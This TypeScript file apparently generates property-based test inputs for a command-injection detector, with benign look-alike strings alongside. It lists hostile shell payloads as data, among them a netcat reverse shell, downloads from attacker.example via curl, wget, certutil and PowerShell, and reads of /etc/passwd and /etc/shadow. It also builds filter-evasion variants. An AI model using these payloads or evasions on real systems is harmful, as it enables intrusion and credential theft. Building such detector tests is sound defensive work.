// Command injection variants from the shell's grammar: a separator or substitution after an
// innocent value, a command with arguments, and the evasions shells undo before running it
// (quotes and backslashes inside words, $IFS, brace expansion, globs, Windows ^ and %VAR:~n,m%).
import fc from "fast-check";
import { pick } from "./positions.js";

/** Commands as [command word, arguments]. */
const UNIX: [string, string][] = [
  ["cat", "/etc/passwd"], ["cat", "/etc/shadow"], ["id", ""], ["whoami", ""], ["uname", "-a"], ["ls", "-la /"], ["wget", "http://attacker.example/x -O /tmp/x"],
  ["curl", "-s http://attacker.example/s.sh"], ["nc", "-e /bin/sh 10.1.2.3 4444"], ["sleep", "5"], ["ping", "-c 3 10.1.2.3"], ["python3", "-c 'import os;os.system(\"id\")'"],
  ["perl", "-e 'system(\"id\")'"], ["rm", "-rf /tmp/x"], ["ifconfig", ""], ["netstat", "-an"], ["ps", "aux"], ["head", "-n1 /etc/passwd"], ["bash", "-c id"],
  ["sh", "-i"], ["echo", "dGVzdA== | base64 -d | sh"], ["nslookup", "attacker.example"], ["chmod", "+x /tmp/x"], ["env", ""], ["hostname", ""], ["tail", "/var/log/auth.log"],
];
const SEPARATORS = ["; ", ";", " | ", "|", " || ", " && ", "&&", "\n", "\r\n", " & ", "&"];

/** Spell a command word the way a shell still reads it. */
function evadeWord(w: string, how: number): string {
  if (w.length < 2) return w;
  const mid = Math.max(1, w.length >> 1);
  switch (how) {
    case 1: return `${w.slice(0, mid)}'${w.slice(mid)}'`; // c'at'
    case 2: return `${w.slice(0, mid)}""${w.slice(mid)}`; // ca""t
    case 3: return `${w.slice(0, mid)}\\${w.slice(mid)}`; // ca\t
    case 4: return `${w.slice(0, mid)}$@${w.slice(mid)}`; // ca$@t
    case 5: return `${w[0]}${w.slice(1, mid).length ? w.slice(1, mid) : ""}$()${w.slice(mid)}`; // c$()at
    case 6: return `"${w}"`;
    default: return w;
  }
}
function evadeArgs(a: string, how: number): string {
  switch (how) {
    case 1: return a.replace(/ /g, "${IFS}");
    case 2: return a.replace(/ /g, "$IFS$9");
    case 3: return a.replace(/\/etc\/passwd/, "/e??/p?ss??").replace(/\/etc\/shadow/, "/etc/sh*w");
    case 4: return a.replace(/\/etc\//, "/e't'c/");
    case 5: return a.replace(/ /g, "\t");
    case 6: return a.replace(/\//g, "${PATH:0:1}");
    default: return a;
  }
}
function unixCommand(): fc.Arbitrary<string> {
  return fc.tuple(pick(UNIX), fc.nat(6), fc.nat(6), fc.nat(4)).map(([[cmd, args], w, a, form]) => {
    if (form === 1 && args) return `{${cmd},${args.split(" ").join(",")}}`; // brace expansion
    if (form === 2 && cmd === "cat") return `/???/c?t ${evadeArgs(args, 3)}`; // globbed binary
    if (form === 3) return `/bin/${evadeWord(cmd, w)}${args ? " " + evadeArgs(args, a) : ""}`;
    const space = a === 1 ? "${IFS}" : a === 2 ? "$IFS$9" : a === 5 ? "\t" : " ";
    return `${evadeWord(cmd, w)}${args ? space + evadeArgs(args, a) : ""}`;
  });
}

const WINDOWS = [
  "dir C:\\", "type C:\\Windows\\win.ini", "whoami /all", "net user", "ipconfig /all", "systeminfo", "tasklist", "cmd /c dir",
  "powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"", "powershell -enc SQBFAFgA", "certutil -urlcache -f http://attacker.example/x.exe x.exe",
  "ping -n 3 10.1.2.3", "nslookup attacker.example", "net localgroup administrators", "wmic process list",
];
function windowsCommand(): fc.Arbitrary<string> {
  return fc.tuple(pick(WINDOWS), fc.nat(3)).map(([c, how]) => {
    const [w, ...rest] = c.split(" ");
    const args = rest.join(" ");
    switch (how) {
      case 1: return w.split("").join("^") + (args ? " " + args : ""); // w^h^o^a^m^i
      case 2: return `"${w}"${args ? " " + args : ""}`;
      case 3: return `%COMSPEC% /c ${c}`;
      default: return c;
    }
  });
}

const PREFIX = pick(["127.0.0.1", "example.com", "report.pdf", "", "1", "admin", "x"]);
const injected = fc.oneof(
  fc.tuple(PREFIX, pick(SEPARATORS), unixCommand(), pick(["", " #", ";", " ;", " &"])).map(([p, s, c, e]) => p + s + c + e),
  fc.tuple(PREFIX, pick(["`", "$("]), unixCommand()).map(([p, o, c]) => `${p}${o}${c}${o === "`" ? "`" : ")"}`),
  fc.tuple(PREFIX, pick(["&", "|", "&&", " & ", " | ", "||"]), windowsCommand()).map(([p, s, c]) => p + s + c),
  // quote breakouts around an argument the application passes to a shell
  fc.tuple(PREFIX, pick(["';", "\";", "'|", "\"&&", "'$(", "\"`"]), unixCommand()).map(([p, o, c]) => p + o + c + (o.endsWith("(") ? ")" : o.endsWith("`") ? "`" : "") + (o[0] === "'" ? "'" : "\"")),
);

export const rceAttack: fc.Arbitrary<string> = injected;

/** Prose and values with command words, separators and paths that run nothing. */
export const rceBenign: fc.Arbitrary<string> = fc.oneof(
  pick([
    "I like to cat videos and sleep late", "Please ping me when the report is done", "Tom & Jerry; the classic", "select your size | colour",
    "docs/report.pdf", "C:\\Users\\jane\\Documents\\cv.docx", "rock & roll", "Q&A: who am I?", "I need to sleep 5 hours", "Run the tests; then deploy",
    "id: 42", "cat food, dog food & bird seed", "ls -la is a command I use daily, says the tutorial", "echo chamber", "10 | 20 | 30", "yes && no",
    "the nc state team won", "man page for ls", "My python script failed", "type your name here", "net profit $2,000 (approx)", "find us at 12 Main St",
    "time: 10:30", "wget is a download tool", "user@example.com", "https://example.com/a?b=c&d=e", "Copyright (c) 2024", "20% off; today only",
  ]),
  fc.tuple(pick(["cat", "sleep", "ping", "echo", "head", "tail", "kill", "more", "less", "find", "sort", "top", "who"]), pick(["s are great", "ing is important", " time", "y", " — as in the animal", "er"])).map(([a, b]) => `The ${a}${b}`),
);

export const rcePositions = ["query", "form", "json", "cookie"] as ("query" | "form" | "json" | "cookie")[];
